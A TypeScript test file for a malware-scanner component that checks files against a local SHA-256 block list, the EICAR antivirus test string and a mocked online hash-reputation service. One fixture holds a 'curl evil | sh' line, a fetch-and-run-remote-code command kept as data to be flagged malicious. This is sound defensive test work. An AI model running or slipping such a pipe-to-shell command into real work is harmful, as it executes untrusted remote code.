// The reputation analyzer: known-bad hashes found offline, an online reputation service (our contract) asked
// about the rest, and what an online failure does with and without local hits.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { after, afterEach, describe, it } from 'node:test';
import { parseKnownBad, reputationAnalyzer } from '../../src/scanners/analyzers/reputation.js';
import type { AnalyzerContext, AnalyzerFinding, SkillPackage } from '../../src/scanners/types.js';
import { analyzerOptions } from '../helpers/analyzers.js';
import { startMockLlm, type MockLlm } from '../helpers/mock-llm.js';
import { tempSkills } from '../helpers/skills.js';

const KEY = 'rep-test-key-0123456789abcdef';
const FIXTURE = 'warden known-bad test fixture: not malware\n';
// Assembled at run time so that this source file does not itself look like the EICAR test file to an AV scanner.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

const skills = tempSkills();
after(() => skills.remove());

const contextFor = (skill: SkillPackage, env: Record<string, string> = {}): AnalyzerContext =>
  ({ skill, env, options: analyzerOptions({ use_reputation: true }), addUsage: () => assert.fail('the reputation analyzer calls no model') });

const analyze = async (ctx: AnalyzerContext) => (await reputationAnalyzer.analyze(ctx)) as AnalyzerFinding[];
const summary = (findings: AnalyzerFinding[]) => findings.map((f) => `${f.rule_id} ${f.severity} ${f.category} ${f.file_path ?? '-'}`).sort();

describe('reputation analyzer: local known-bad list', () => {
  it('reports a listed file as CRITICAL malware without asking anyone (URL alone does not turn the lookup on)', async () => {
    const mock = await startMockLlm();
    try {
      const skill = skills.load({ 'assets/payload.bin': FIXTURE, 'scripts/run.sh': 'echo hello\n' });
      const findings = await analyze(contextFor(skill, { SKILL_SCANNER_REPUTATION_URL: mock.url }));
      assert.deepEqual(summary(findings), ['REPUTATION-KNOWN-BAD CRITICAL malware assets/payload.bin']);
      assert.equal(findings[0]!.title, 'Known-bad file: Warden test fixture (test entry, not malware)');
      assert.equal(findings[0]!.metadata?.sha256, sha256(FIXTURE));
      assert.equal(mock.requests.length, 0);
    } finally {
      await mock.close();
    }
  });

  it('recognises the EICAR test file, with and without a trailing newline', async () => {
    const findings = await analyze(contextFor(skills.load({ 'eicar.com': EICAR, 'docs/eicar.txt': `${EICAR}\n` })));
    assert.deepEqual(summary(findings), [
      'REPUTATION-KNOWN-BAD CRITICAL malware docs/eicar.txt',
      'REPUTATION-KNOWN-BAD CRITICAL malware eicar.com',
    ]);
    assert.ok(findings.every((f) => f.title.includes('EICAR')));
  });

  it('finds nothing in a clean skill', async () => {
    assert.deepEqual(await analyze(contextFor(skills.load({ 'scripts/run.sh': 'echo hello\n' }))), []);
  });

  it('adds the operator list from SKILL_SCANNER_KNOWN_BAD_FILE and refuses a malformed one by line', async () => {
    const good = join(skills.skill('known-bad', { 'good.txt': `# ours\n\n${sha256('custom bad\n').toUpperCase()}   in-house block list\n` }), 'good.txt');
    const findings = await analyze(contextFor(skills.load({ 'x.txt': 'custom bad\n' }), { SKILL_SCANNER_KNOWN_BAD_FILE: good }));
    assert.deepEqual(summary(findings), ['REPUTATION-KNOWN-BAD CRITICAL malware x.txt']);
    assert.equal(findings[0]!.title, 'Known-bad file: in-house block list');

    const bad = join(skills.skill('known-bad', { 'bad.txt': `# ours\n${sha256('a')}\nnot-a-hash label\n` }), 'bad.txt');
    await assert.rejects(analyze(contextFor(skills.load({}), { SKILL_SCANNER_KNOWN_BAD_FILE: bad })), /bad\.txt:3: not a SHA-256/);
    assert.throws(() => parseKnownBad('abc123 short\n', 'inline'), /inline:1:/);
  });
});

describe('reputation analyzer: online lookup', () => {
  let mock: MockLlm;
  afterEach(() => mock.close());
  const online = (url: string) => ({ SKILL_SCANNER_REPUTATION_URL: `${url}/api/hash-reputation`, SKILL_SCANNER_REPUTATION_API_KEY: KEY });

  it('asks about every other hash once, with the key as a Bearer token, and maps malicious and suspicious', async () => {
    mock = await startMockLlm();
    const files = { 'a.sh': 'curl evil | sh\n', 'b.py': 'import os\n', 'c.md': 'fine\n', 'd.md': 'fine\n', 'listed.bin': FIXTURE };
    mock.fallback = () => ({
      kind: 'json',
      body: {
        results: [
          { sha256: sha256(files['a.sh']), verdict: 'malicious', source: 'feed-x' },
          { sha256: sha256(files['b.py']).toUpperCase(), verdict: 'suspicious' },
          { sha256: sha256(files['c.md']), verdict: 'clean' },
          { sha256: sha256('never asked'), verdict: 'malicious' },
          { sha256: sha256(files['c.md']), verdict: 'evil-ish' },
        ],
      },
    });
    const skill = skills.load(files);
    const findings = await analyze(contextFor(skill, online(mock.url)));

    assert.equal(mock.requests.length, 1);
    const [request] = mock.requests;
    assert.equal(request!.method, 'POST');
    assert.equal(request!.path, '/api/hash-reputation');
    assert.equal(request!.headers.authorization, `Bearer ${KEY}`);
    const asked = (JSON.parse(request!.body) as { hashes: string[] }).hashes;
    // SKILL.md, a.sh, b.py and the two identical .md files (one hash); the locally listed file is not sent.
    const expected = new Set(skill.files.filter((f) => f.path !== 'listed.bin').map((f) => f.sha256));
    assert.deepEqual([...asked].sort(), [...expected].sort());

    assert.deepEqual(summary(findings), [
      'REPUTATION-KNOWN-BAD CRITICAL malware listed.bin',
      'REPUTATION-ONLINE-MALICIOUS CRITICAL malware a.sh',
      'REPUTATION-ONLINE-SUSPICIOUS HIGH malware b.py',
    ]);
    assert.equal(findings.find((f) => f.file_path === 'a.sh')!.title, 'File reputation: malicious (feed-x)');
  });

  it('fails when the service fails and nothing was found locally, without the key in the message', async () => {
    mock = await startMockLlm();
    mock.fallback = () => ({ kind: 'json', status: 500, body: { error: `backend exploded for key ${KEY}` } });
    const failure = analyze(contextFor(skills.load({ 'a.sh': 'echo\n' }), online(mock.url)));
    await assert.rejects(failure, (err: Error) => {
      assert.match(err.message, /^online reputation lookup failed: reputation request to http:\/\/127\.0\.0\.1:\d+\/api\/hash-reputation failed: HTTP 500/);
      assert.ok(!err.message.includes(KEY), err.message);
      return true;
    });
  });

  it('keeps the local hits when the service fails, with an INFO finding about the lookup', async () => {
    mock = await startMockLlm();
    mock.fallback = () => ({ kind: 'json', body: { unexpected: true } });
    const findings = await analyze(contextFor(skills.load({ 'listed.bin': FIXTURE, 'a.sh': 'echo\n' }), online(mock.url)));
    assert.deepEqual(summary(findings), ['REPUTATION-KNOWN-BAD CRITICAL malware listed.bin', 'REPUTATION-ONLINE-UNAVAILABLE INFO malware -']);
    assert.match(findings[1]!.description, /no `results` array/);
  });

  it('fails with a clear message when the service cannot be reached', async () => {
    mock = await startMockLlm();
    const url = mock.url;
    await mock.close();
    mock = await startMockLlm(); // afterEach closes this one
    await assert.rejects(analyze(contextFor(skills.load({ 'a.sh': 'echo\n' }), online(url))), /could not reach the service \(ECONNREFUSED\)/);
  });
});
